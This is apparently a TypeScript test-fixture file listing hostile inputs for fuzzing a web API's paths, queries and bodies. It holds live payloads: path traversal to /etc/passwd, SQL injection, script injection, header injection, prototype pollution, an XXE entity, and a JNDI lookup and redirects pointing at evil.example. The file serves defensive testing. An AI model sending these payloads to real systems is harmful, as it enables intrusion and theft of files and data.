/** What hostile clients write where a value of a path or a query belongs; each is one scalar, percent-encoded. */
export const hostileValues: readonly string[] = [
  '..',
  '.',
  '..%2f..%2fpackage.json',
  '..%5c..%5cpackage.json',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252f',
  '%25252e',
  '%00',
  'a%00.pdf',
  // Overlong forms of "../", a lone surrogate and a byte that begins nothing: no UTF-8.
  '%c0%ae%c0%ae%c0%af',
  '%e0%80%ae',
  '%ed%a0%80',
  '%ff',
  '%zz',
  '%',
  '%2',
  '%u002e',
  ';',
  'a;b=c',
  '%3b',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '%E8%83%BD%E6%BA%90',
  '%F0%9F%92%A5',
  // Full-width dots and slash, the end of a right-to-left text, a byte order mark.
  '%EF%BC%8E%EF%BC%8E%EF%BC%8F',
  '%E2%80%AE',
  '%EF%BB%BF',
  "'%20or%20'1'='1",
  '1%3bdrop%20table%20users--',
  '%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%0d%0aX-Injected:%20yes',
  '%0aSet-Cookie:%20a=b',
  '$%7Bjndi:ldap:%2F%2Fevil.example%7D',
  '%7B%7B7*7%7D%7D',
  'http:%2F%2Fevil.example',
  '%2F%2Fevil.example',
  '-1',
  '1e309',
  'NaN',
  'null',
  '9'.repeat(400),
  'a'.repeat(3000),
  '%F0%9F%92%A5'.repeat(200),
  'a'.repeat(20_000),
]

/** The same address written so that a careless part reads it as another one. */
export const addressTricks: readonly ((path: string) => string)[] = [
  (path) => `/${path}`,
  (path) => `//evil.example${path}`,
  (path) => `http://evil.example${path}`,
  (path) => path.replaceAll('/', '//'),
  (path) => path.replaceAll('/', '/./'),
  (path) => path.replaceAll('/', '%2f').replace('%2f', '/'),
  (path) => path.replaceAll('/', '\\').replace('\\', '/'),
  (path) => `/x/..${path}`,
  (path) => `/x/%2e%2e${path}`,
  (path) => `/..%2f${path}`,
  (path) => `${path}/`,
  (path) => `${path}//`,
  (path) => `${path}/.`,
  (path) => `${path}/..`,
  (path) => `${path}/..%2f`,
  (path) => `${path}%2f`,
  (path) => `${path}%20`,
  (path) => `${path}%00`,
  (path) => `${path}%00.json`,
  (path) => `${path}%0d%0aX-Injected:%20yes`,
  (path) => `${path};a=b`,
  (path) => path.replace(/^\/(\w+)/, '/$1;a=b'),
  (path) => `${path}.json`,
  (path) => `${path}~`,
  (path) => path.toUpperCase(),
  (path) => path.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (path) => path.replace(/[a-z]/, (letter) => `%25${letter.charCodeAt(0).toString(16)}`),
  (path) => `${path}?${'a=b&'.repeat(3000)}`,
]

/** Queries that a careless reader of parameters takes for something else. */
export const hostileQueries: readonly string[] = [
  '__proto__[isAdministrator]=true',
  '__proto__=1&constructor=2&prototype=3',
  'constructor[prototype][isAdministrator]=true',
  'page=1&page=2&page=3',
  'size[]=20',
  'size[$gt]=0',
  'q=a&q=b',
  'filters=a:eq:b&filters=c:eq:d',
  'filters=__proto__:eq:1',
  'sorters=constructor:asc',
  'fields=__proto__,password_hash',
  'fq=%7B%22__proto__%22:1%7D',
  `fq=${'%5B'.repeat(25)}${'%5D'.repeat(25)}`,
  'page=1e309&size=-1',
  'drafts=true&drafts=false',
  'token=AAAA&access_token=BBBB&authorization=CCCC',
  '_method=DELETE',
  'redirect_url=//evil.example&redirectUrl=javascript:alert(1)',
  '%00=%00',
  '%zz=%zz',
  'q=%ff%fe',
  'q=%0d%0aX-Injected:%20yes',
  '=&&=&;;',
  '?'.repeat(50),
]

/** A body and the type that it claims. */
export interface HostileBody {
  name: string
  type: string | undefined
  body: string | Buffer
}

const json = 'application/json'

/** Depth 25: five levels over what a body may have. */
const tooDeep = '['.repeat(25) + ']'.repeat(25)
const twoMegabytes = 2 * 1024 * 1024

/** Bodies that no call takes, whatever its fields are. */
export const hostileBodies: readonly HostileBody[] = [
  { name: 'broken JSON', type: json, body: '{"a":' },
  { name: 'JSON with something behind it', type: json, body: '{}{}' },
  { name: 'prototype key', type: json, body: '{"__proto__":{"isAdministrator":true}}' },
  { name: 'prototype of the constructor', type: json, body: '{"constructor":{"prototype":{"a":1}}}' },
  { name: 'depth of 25', type: json, body: tooDeep },
  { name: 'depth of 25 in a field', type: json, body: `{"id":${tooDeep}}` },
  { name: '2 MB', type: json, body: JSON.stringify({ id: 'a'.repeat(twoMegabytes) }) },
  { name: 'no UTF-8', type: json, body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) },
  { name: 'UTF-16', type: `${json}; charset=utf-16`, body: Buffer.from('{"id":"1"}', 'utf16le') },
  {
    name: 'XML',
    type: 'application/xml',
    body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  },
  { name: 'text', type: 'text/plain', body: '{"id":"1"}' },
  { name: 'no type', type: undefined, body: '{"id":"1"}' },
  { name: 'a type that is none', type: ';;;', body: '{}' },
  { name: 'a form without boundary', type: 'multipart/form-data', body: '--a\r\n\r\n--a--' },
  { name: 'a form that does not end', type: 'multipart/form-data; boundary=a', body: '--a\r\nContent-Disp' },
  {
    name: 'prototype in a form',
    type: 'application/x-www-form-urlencoded',
    body: '__proto__[a]=1&__proto__=2',
  },
]

/** JSON bodies that are well formed and hold nothing that a call asks for. */
export const emptyBodies: readonly HostileBody[] = [
  'null',
  '[]',
  '"text"',
  '1',
  'true',
  '{}',
  '[{}]',
  '1e999',
].map((body) => ({ name: body, type: json, body }))

/** What stands in a body where its schema wants something else. */
export const hostileScalars: readonly unknown[] = [
  null,
  [],
  ['a', 'b'],
  {},
  { $ne: '' },
  -1,
  1e300,
  true,
  '',
  ' ',
  '\0',
  'a\r\nX-Injected: yes',
  '\ud800',
  '\u202e\ufeff',
  '__proto__',
  '../../etc/passwd',
  'http://evil.example',
  "' or '1'='1",
  'a'.repeat(5000),
  '🌊'.repeat(3000),
]
